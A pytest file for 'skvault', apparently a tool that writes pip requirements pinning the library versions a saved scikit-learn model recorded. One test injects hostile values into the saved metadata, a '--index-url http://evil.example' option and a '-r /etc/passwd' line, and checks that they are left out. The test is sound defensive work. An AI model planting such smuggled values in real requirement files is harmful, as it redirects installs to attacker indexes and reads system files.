"""`skvault requirements FILE` and `skvault.requirements`: a pip requirements file pinning the
versions a model was saved with. tests/install/smoke.py checks that `pip install -r` of it
rebuilds those versions in a fresh venv."""

from __future__ import annotations

import subprocess
import sys
import textwrap
from importlib import metadata

from skv_bytes import SkvParts
from sklearn.datasets import make_classification
from sklearn.linear_model import LogisticRegression
from sklearn.tree import DecisionTreeClassifier

import skvault

X, Y = make_classification(60, 4, random_state=0)
CLI = [sys.executable, "-m", "skvault"]


def _pins(text: str) -> dict[str, str]:
    pins = {}
    for line in text.splitlines():
        if line and not line.startswith("#"):
            name, version = line.split("==")
            pins[name] = version
    return pins


def test_pins_the_scikit_learn_numpy_and_scipy_the_model_was_saved_with(tmp_path):
    path = tmp_path / "model.skv"
    skvault.dump(LogisticRegression().fit(X, Y), path)
    text = skvault.requirements(path)
    assert text.splitlines()[0].startswith(f"# pip requirements of {path}")
    assert _pins(text) == {d: metadata.version(d) for d in ("scikit-learn", "numpy", "scipy")}
    # The CLI prints the same file; so does the bytes form, under another name.
    cli = subprocess.run([*CLI, "requirements", str(path)], capture_output=True, text=True)
    assert cli.returncode == 0, cli.stderr
    assert cli.stdout == text
    assert _pins(skvault.requirements(path.read_bytes())) == _pins(text)


def test_inspect_shows_the_environment_that_requirements_pins(tmp_path):
    path = tmp_path / "model.skv"
    skvault.dump(DecisionTreeClassifier(random_state=0).fit(X, Y), path)
    pins = _pins(skvault.requirements(path))
    summary = subprocess.run([*CLI, "inspect", str(path)], capture_output=True, text=True)
    env_line = next(line for line in summary.stdout.splitlines() if line.startswith("environment:"))
    for name, version in pins.items():
        assert f"{name} {version}" in env_line


def test_versions_recorded_in_the_file_are_the_pins_not_this_environment(tmp_path):
    path = tmp_path / "model.skv"
    skvault.dump(LogisticRegression().fit(X, Y), path)
    parts = SkvParts.parse(path.read_bytes())
    parts.manifest["metadata"]["environment"].update({"scikit-learn": "1.2.2", "scipy": None})
    path.write_bytes(parts.to_bytes())
    text = skvault.requirements(path)
    assert _pins(text) == {"scikit-learn": "1.2.2", "numpy": metadata.version("numpy")}
    assert "# scipy: not installed when the file was saved" in text.splitlines()


def test_a_recorded_value_cannot_add_a_pip_option_or_a_second_requirement(tmp_path):
    path = tmp_path / "model.skv"
    skvault.dump(LogisticRegression().fit(X, Y), path)
    parts = SkvParts.parse(path.read_bytes())
    parts.manifest["metadata"]["environment"].update(
        {"numpy": "1.0\n--index-url http://evil.example", "evil\n-r /etc/passwd": "1"}
    )
    path.write_bytes(parts.to_bytes())
    lines = skvault.requirements(path).splitlines()
    assert all(line.startswith("#") or "==" in line for line in lines), lines
    assert not any(line.startswith(("-", "evil")) for line in lines)
    assert sum("left out" in line for line in lines) == 2
    assert "numpy" not in _pins("\n".join(lines))


def _install_package(root, dist: str | None, module: str, version: str = "0.3.1") -> None:
    """A real importable package under `root`, with an installed distribution's metadata when
    `dist` is given (what pip leaves in site-packages)."""
    (root / module).mkdir()
    (root / module / "__init__.py").write_text(
        textwrap.dedent(
            """
            from sklearn.linear_model import LogisticRegression

            class Wrapped(LogisticRegression):
                pass
            """
        )
    )
    if dist is not None:
        info = root / f"{dist.replace('-', '_')}-{version}.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: {version}\n")
        (info / "top_level.txt").write_text(f"{module}\n")


def test_a_model_from_another_package_pins_that_package_too(tmp_path, monkeypatch):
    site = tmp_path / "site"
    site.mkdir()
    _install_package(site, "skv-extra-estimators", "skv_extra_estimators")
    monkeypatch.syspath_prepend(str(site))
    from skv_extra_estimators import Wrapped

    path = tmp_path / "model.skv"
    skvault.dump(Wrapped().fit(X, Y), path)
    text = skvault.requirements(path)
    assert _pins(text)["skv-extra-estimators"] == "0.3.1"
    assert "records no version" not in text
    summary = subprocess.run([*CLI, "inspect", str(path)], capture_output=True, text=True)
    assert "skv-extra-estimators 0.3.1" in summary.stdout


def test_a_module_with_no_recorded_version_is_named_in_a_comment(tmp_path, monkeypatch):
    site = tmp_path / "site"
    site.mkdir()
    _install_package(site, None, "skv_loose_module")
    monkeypatch.syspath_prepend(str(site))
    from skv_loose_module import Wrapped

    path = tmp_path / "model.skv"
    skvault.dump(Wrapped().fit(X, Y), path)
    lines = skvault.requirements(path).splitlines()
    assert any(line.startswith("# skv_loose_module: ") and "records no version" in line for line in lines)
    assert set(_pins("\n".join(lines))) == {"scikit-learn", "numpy", "scipy"}
